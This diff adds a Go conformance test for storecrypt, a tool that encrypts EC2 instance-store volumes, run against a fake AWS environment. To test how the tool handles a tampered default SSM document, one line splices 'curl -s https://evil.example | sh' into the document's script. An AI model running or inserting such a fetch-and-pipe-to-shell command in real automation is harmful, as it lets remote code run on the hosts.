@@ -1,0 +1,248 @@
+package conformance
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"log/slog"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/aws/aws-lambda-go/events"
+	"github.com/aws/aws-sdk-go-v2/service/ec2"
+	"github.com/aws/aws-sdk-go-v2/service/iam"
+	"github.com/aws/aws-sdk-go-v2/service/kms"
+	"github.com/aws/aws-sdk-go-v2/service/s3"
+	"github.com/aws/aws-sdk-go-v2/service/ssm"
+
+	samples "github.com/storecrypt/storecrypt/events"
+	"github.com/storecrypt/storecrypt/instance-agent/keysource"
+	"github.com/storecrypt/storecrypt/internal/contract"
+	"github.com/storecrypt/storecrypt/internal/fakeaws"
+	"github.com/storecrypt/storecrypt/internal/launch"
+	"github.com/storecrypt/storecrypt/internal/opcli"
+	"github.com/storecrypt/storecrypt/internal/result"
+)
+
+// run is what one part of storecrypt did in a scenario: its calls, and its metric lines.
+type run struct {
+	world   *fakeaws.World
+	calls   []fakeaws.Call
+	metrics bytes.Buffer
+}
+
+var launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)
+
+const (
+	keyUserInstance = "i-0a000000000000001"
+	blockedInstance = "i-0a000000000000002"
+	skippedInstance = "i-0a000000000000003"
+	lateInstance    = "i-0a000000000000004"
+	driftInstance   = "i-0a000000000000005"
+)
+
+// launchRun: a batch with an instance the stack's profile opts in, one whose role is no
+// key user, one without instance store and one whose SSM agent is late; a sweep; and a
+// batch after someone made another document version the default.
+func (d *deployment) launchRun(t *testing.T) *run {
+	t.Helper()
+	r := &run{world: d.world()}
+	w := r.world
+	other := fakeaws.NamesIn(d.Env.Partition, d.Env.Region).Web
+	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, nil, launched)
+	w.AddInstance(blockedInstance, "i4i.large", fakeaws.Profile(other), map[string]string{contract.TagEncrypt: "true"}, launched)
+	w.AddInstance(skippedInstance, "m5.large", d.instanceProfile, nil, launched)
+	w.AddInstance(lateInstance, "i4i.large", d.instanceProfile, nil, launched).OnlineAfter = -1
+	handler := func() *launch.Handler {
+		c, err := launch.LoadConfig(func(k string) string { return d.launchEnv[k] })
+		if err != nil {
+			t.Fatal(err)
+		}
+		h := launch.New(c, w.Config(), slog.New(slog.DiscardHandler), &r.metrics)
+		h.Now = func() time.Time { return launched.Add(2 * time.Minute) }
+		return h
+	}
+	h := handler()
+	ctx := context.Background()
+	batch := events.SQSEvent{}
+	for _, id := range []string{keyUserInstance, blockedInstance, skippedInstance, lateInstance} {
+		batch.Records = append(batch.Records, events.SQSMessage{MessageId: id, Body: launch.StateChangeEvent(id, launched)})
+	}
+	if _, err := h.HandleSQS(ctx, batch); err != nil {
+		t.Fatal(err)
+	}
+	sweep, err := samples.Read("scheduled-sweep.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := h.Invoke(ctx, sweep); err != nil {
+		t.Fatal(err)
+	}
+	w.AddDocument(d.documentName, strings.Replace(d.document, "set -eu", "set -eu; curl -s https://evil.example | sh", 1), true)
+	w.AddInstance(driftInstance, "i4i.large", d.instanceProfile, nil, launched)
+	drift := events.SQSEvent{Records: []events.SQSMessage{{MessageId: "m-drift", Body: launch.StateChangeEvent(driftInstance, launched)}}}
+	if _, err := handler().HandleSQS(ctx, drift); err != nil {
+		t.Fatal(err)
+	}
+	r.expect(t, map[string]string{keyUserInstance: contract.StatusPending, blockedInstance: contract.StatusBlocked,
+		skippedInstance: contract.StatusSkipped, driftInstance: contract.StatusPending})
+	r.calls = w.Log()
+	return r
+}
+
+// expect checks the instances' status tags: the scenario did what it means to.
+func (r *run) expect(t *testing.T, want map[string]string) {
+	t.Helper()
+	r.world.With(func() {
+		for id, status := range want {
+			if got := r.world.Instances[id].Tags[contract.TagStatus]; got != status {
+				t.Errorf("scenario: %s is %q, want %q", id, got, status)
+			}
+		}
+	})
+}
+
+// report is the agent's output for a successful apply under the deployment's key.
+func (d *deployment) report(id string) string {
+	rep := contract.Report{Command: "apply", Result: "ok", InstanceID: id, Devices: []contract.Device{}, Steps: []contract.Step{},
+		Layout: &contract.Layout{Volume: "/dev/md127", State: contract.StateReady, Open: true, Mounted: true, Cipher: "aes-xts-plain64",
+			KeySizeBits: 512, SectorSize: 4096, KeySource: d.source, KeyID: d.keyARN, MountPoint: contract.DefaultMountPoint, Filesystem: "ext4"}}
+	b, _ := json.MarshalIndent(rep, "", "  ")
+	return "storecrypt: checking the agent\n" + string(b) + "\n"
+}
+
+// resultRun: one invocation that succeeded with the agent's evidence, one the agent
+// refused.
+func (d *deployment) resultRun(t *testing.T) *run {
+	t.Helper()
+	r := &run{world: d.world()}
+	w := r.world
+	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, nil, launched)
+	w.AddInstance(skippedInstance, "i4i.large", d.instanceProfile, nil, launched)
+	w.With(func() {
+		w.Commands = append(w.Commands,
+			&fakeaws.Command{ID: "c-ok", DocumentName: d.documentName, DocumentVersion: "1", InstanceIDs: []string{keyUserInstance},
+				Invocations: map[string]*fakeaws.Invocation{keyUserInstance: {Status: "Success", Stdout: d.report(keyUserInstance)}}},
+			&fakeaws.Command{ID: "c-refused", DocumentName: d.documentName, DocumentVersion: "1", InstanceIDs: []string{skippedInstance},
+				Invocations: map[string]*fakeaws.Invocation{skippedInstance: {Status: "Failed", ResponseCode: 3}}})
+	})
+	c, err := result.LoadConfig(func(k string) string { return d.resultEnv[k] })
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := result.New(c, w.Config(), slog.New(slog.DiscardHandler), &r.metrics)
+	h.Now = func() time.Time { return launched.Add(3 * time.Minute) }
+	for _, ev := range []struct{ file, command, instance string }{
+		{"ssm-success.json", "c-ok", keyUserInstance}, {"ssm-failed.json", "c-refused", skippedInstance},
+	} {
+		b, err := samples.Read(ev.file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var e events.CloudWatchEvent
+		if err := json.Unmarshal(b, &e); err != nil {
+			t.Fatal(err)
+		}
+		var detail result.Detail
+		if err := json.Unmarshal(e.Detail, &detail); err != nil {
+			t.Fatal(err)
+		}
+		detail.CommandID, detail.InstanceID, detail.DocumentName = ev.command, ev.instance, d.documentName
+		detail.Requested = launched.Add(time.Minute).Format(time.RFC3339Nano)
+		e.Detail, _ = json.Marshal(detail)
+		if _, err := h.Handle(context.Background(), e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r.expect(t, map[string]string{keyUserInstance: contract.StatusEncrypted, skippedInstance: contract.StatusFailed})
+	r.calls = w.Log()
+	return r
+}
+
+// cliRun: every command of `storecrypt` an operator runs.
+func (d *deployment) cliRun(t *testing.T) *run {
+	t.Helper()
+	r := &run{world: d.world()}
+	w := r.world
+	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, map[string]string{
+		contract.TagStatus: contract.StatusEncrypted, contract.TagCommandID: "c-ok", contract.TagAt: launched.Add(time.Minute).Format(time.RFC3339)}, launched)
+	w.With(func() {
+		w.Commands = append(w.Commands, &fakeaws.Command{ID: "c-ok", DocumentName: d.documentName, DocumentVersion: "1", InstanceIDs: []string{keyUserInstance},
+			Invocations: map[string]*fakeaws.Invocation{keyUserInstance: {Status: "Success", Stdout: d.report(keyUserInstance)}}})
+	})
+	w.OnCommand = func(c *fakeaws.Command) {
+		if err := w.SetInvocation(c.ID, c.InstanceIDs[0], fakeaws.Invocation{Status: "Success", Stdout: d.report(c.InstanceIDs[0])}); err != nil {
+			t.Error(err)
+		}
+	}
+	cfg := w.Config()
+	clients := opcli.Clients{EC2: ec2.NewFromConfig(cfg), SSM: ssm.NewFromConfig(cfg), IAM: iam.NewFromConfig(cfg), KMS: kms.NewFromConfig(cfg), S3: s3.NewFromConfig(cfg)}
+	commands := [][]string{
+		{"status"}, {"report"},
+		{"verify", "--instance", keyUserInstance, "--kms-key-id", d.keyARN, "--key-source", d.source, "--secret", d.launchEnv[contract.EnvSecret]},
+		{"verify", "--role", d.instanceRole, "--kms-key-id", d.keyARN, "--key-source", d.source, "--secret", d.launchEnv[contract.EnvSecret]},
+		{"rerun", "--instance", keyUserInstance, "--document", d.documentName, "--timeout", "1m"},
+	}
+	if d.secretBucket != "" {
+		key := strings.SplitN(strings.TrimPrefix(d.launchEnv[contract.EnvSecret], "s3://"), "/", 2)[1]
+		commands = append(commands, []string{"put-secret", "--generate", "--bucket", d.secretBucket, "--key", key, "--kms-key-id", d.keyARN})
+	}
+	for _, args := range commands {
+		var out, errOut bytes.Buffer
+		code := opcli.Main(context.Background(), args, strings.NewReader(""), &out, &errOut,
+			func(context.Context, string, string) (opcli.Clients, error) { return clients, nil })
+		if code != 0 {
+			t.Fatalf("storecrypt %v: exit %d\n%s%s", args, code, out.String(), errOut.String())
+		}
+	}
+	r.calls = w.Log()
+	return r
+}
+
+// agentRun: the agent's key source makes a new volume's key and recovers it (kms-datakey),
+// or reads the seed secret (s3-kms), as it does on the instance.
+func (d *deployment) agentRun(t *testing.T) *run {
+	t.Helper()
+	r := &run{world: d.world()}
+	w := r.world
+	cfg := w.Config()
+	ctx := context.Background()
+	src := keysource.Sources{KMS: kms.NewFromConfig(cfg), S3: s3.NewFromConfig(cfg)}
+	opts := contract.DefaultAgentOptions()
+	opts.KeySource, opts.KMSKeyID, opts.Secret = d.source, d.keyARN, d.launchEnv[contract.EnvSecret]
+	vol := keysource.Volume{InstanceID: keyUserInstance, UUID: "6a3c0b1e-0d5f-4c2b-9e7a-1f2e3d4c5b6a"}
+	setup := 0
+	if d.source == contract.KeySourceS3KMS {
+		// The operator stored the secret first (put-secret); those calls are not the agent's.
+		bucket, key, err := contract.SecretLocation(opts.Secret)
+		if err != nil {
+			t.Fatal(err)
+		}
+		enc, err := src.KMS.(*kms.Client).Encrypt(ctx, &kms.EncryptInput{KeyId: &d.keyARN, Plaintext: []byte("correct horse battery staple\n")})
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.With(func() { w.Objects = map[string]fakeaws.Object{bucket + "/" + key: {Body: enc.CiphertextBlob}} })
+		setup = len(w.Log())
+	}
+	k, err := src.New(ctx, opts, vol)
+	if err != nil {
+		t.Fatal(err)
+	}
+	k.Zero()
+	if d.source == contract.KeySourceKMSDataKey {
+		again, err := src.Recover(ctx, k.Token, vol)
+		if err != nil {
+			t.Fatal(err)
+		}
+		again.Zero()
+	}
+	r.calls = w.Log()[setup:]
+	return r
+}
+
+func (d *deployment) sessionOf(role, name string) string {
+	return fmt.Sprintf("arn:%s:sts::%s:assumed-role/%s/%s", d.Env.Partition, d.Env.Account, role[strings.LastIndex(role, "/")+1:], name)
+}
